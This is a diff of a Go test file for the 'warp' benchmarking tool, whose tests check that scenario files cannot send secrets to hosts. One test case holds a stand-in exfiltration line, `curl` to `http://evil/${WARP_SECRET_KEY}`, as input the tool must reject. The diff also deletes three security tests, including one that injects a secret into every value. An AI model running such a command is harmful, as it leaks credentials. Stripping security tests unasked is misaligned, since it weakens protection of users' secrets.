@@ -4,7 +4,6 @@ import (
 	"bytes"
 	"os"
 	"path/filepath"
-	"reflect"
 	"runtime"
 	"slices"
 	"strings"
@@ -12,7 +11,6 @@ import (
 
 	"warp/internal/secret"
 	"warp/pkg/bench"
-	"warp/pkg/script"
 )
 
 // mailed is a scenario whose %s a test replaces.
@@ -98,7 +96,7 @@ func TestMailedScenario(t *testing.T) {
 		{"in a program", "PHASES", `  - exec: {command: [curl, "http://evil/${WARP_SECRET_KEY}"]}`, secretText},
 		{"in an output", "OUTPUTS", `, json: "${WARP_SECRET_KEY}.json"`, secretText},
 		{"in an address", "OUTPUTS", `, metrics: "${WARP_TOKEN}:1"`, secretText},
-		{"signature of version 2", "TARGET", `, signature: S3V2`, "signature S3V2, which is good for any host, would go to one that the scenario names"},
+		{"signature of version 2", "TARGET", `, signature: S3V2`, "signature S3V2, which is good for any host, would go to one that the file names"},
 		{"form", "PHASES", `  - {run: b, do: [{put: p, post: true}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
 		{"fan-out", "PHASES", `  - {run: b, do: [{fanout: p}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
 		{"form of a mix", "PHASES", `  - {run: b, do: [{get: p, weight: 1}, {put: p, post: true, weight: 1}], load: 1, until: {ops: 2}}`, "signed forms, which are good for any host"},
@@ -299,103 +297,8 @@ func TestWebTokenStays(t *testing.T) {
 	var stderr bytes.Buffer
 	env.Stderr = &stderr
 	env.Getenv = func(name string) string { return map[string]string{"WARP_STS_WEB_TOKEN": "CANARY"}[name] }
-	if code := Main(env); code != exitUsage || !strings.Contains(stderr.String(), "the token would go to a host that the scenario names") {
+	if code := Main(env); code != exitUsage || !strings.Contains(stderr.String(), "the token would go to a host that the file names") {
 		t.Errorf("exit code %d: %s", code, stderr.String())
-	}
-}
-
-// TestHostOfAPerson: what is signed for any host goes to one that a person names, or is signed with keys of the scenario.
-func TestHostOfAPerson(t *testing.T) {
-	dir, _ := mailbox(t)
-	for _, places := range [][]string{
-		{" TARGET", `, signature: S3V2`}, {"PHASES", `  - {run: b, do: [{put: p, post: true}], load: 1, until: {ops: 2}}`},
-	} {
-		path := mail(t, dir, places...)
-		if code, _, stderr := runScenario("--check", path); code != exitUsage {
-			t.Errorf("%q: exit code %d: %s", places, code, stderr)
-		}
-		for _, arg := range []string{"--host=127.0.0.1:2", "--signature=anonymous"} {
-			if code, _, stderr := runScenario("--check", arg, path); code != exitOK {
-				t.Errorf("%q, %s: exit code %d: %s", places, arg, code, stderr)
-			}
-		}
-	}
-}
-
-// TestForceIsSaid: a scenario that may delete what its run did not make says so before it runs.
-func TestForceIsSaid(t *testing.T) {
-	dir, _ := mailbox(t)
-	path := mail(t, dir, " TARGET", ", bucket: prod, insecure: true", "outputs:", "force: true\noutputs:")
-	for _, arg := range []string{"--check", "--explain"} {
-		if code, stdout, stderr := runScenario(arg, path); code != exitOK ||
-			!strings.Contains(stdout, "  insecure: certificates of hosts are not checked\n  force: objects in bucket prod that the run did not make may be overwritten and deleted\n") {
-			t.Errorf("%s: exit code %d: %s%s", arg, code, stdout, stderr)
-		}
-	}
-}
-
-// TestSecretsInEveryPlace puts a secret variable into each value of each example, one after the other.
-func TestSecretsInEveryPlace(t *testing.T) {
-	files, err := filepath.Glob("../examples/*.warp.yaml")
-	if err != nil || len(files) == 0 {
-		t.Fatal(files, err)
-	}
-	path, places, tried := filepath.Join(t.TempDir(), "mail.warp.yaml"), 0, 0
-	for _, name := range files {
-		text, err := os.ReadFile(name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		file, err := script.Parse(name, text)
-		if err != nil {
-			t.Fatal(err)
-		}
-		eachValue(reflect.ValueOf(file).Elem(), func(v *script.Value) {
-			if places++; v == &file.Warp || testing.Short() && places%10 > 0 {
-				return
-			}
-			old := v.Text
-			v.Text += "${WARP_SECRET_KEY}"
-			defer func() { v.Text = old }()
-			if err := os.WriteFile(path, []byte(file.Format()), 0o600); err != nil {
-				t.Fatal(err)
-			}
-			code, stdout, stderr := runScenario("--check", "--host=127.0.0.1:1", path)
-			if code != exitUsage || strings.Contains(stdout+stderr, "CANARY") || !strings.Contains(stderr, "WARP_SECRET_KEY") {
-				t.Errorf("%s: %q: exit code %d: %s%.300s", name, old, code, stdout, stderr)
-			}
-			tried++
-		})
-	}
-	if places < 300 || tried == 0 {
-		t.Errorf("%d of %d places were tried", tried, places)
-	}
-}
-
-// eachValue calls a function with each value of a file that is set.
-func eachValue(v reflect.Value, f func(*script.Value)) {
-	switch v.Kind() {
-	case reflect.Struct:
-		if one, ok := v.Addr().Interface().(*script.Value); ok {
-			if one.Text != "" {
-				f(one)
-			}
-			return
-		}
-		for i := range v.NumField() {
-			if v.Type().Field(i).IsExported() {
-				eachValue(v.Field(i), f)
-			}
-		}
-	case reflect.Slice:
-		for i := range v.Len() {
-			eachValue(v.Index(i), f)
-		}
-	case reflect.Pointer:
-		if !v.IsNil() {
-			eachValue(v.Elem(), f)
-		}
-	default:
 	}
 }
 
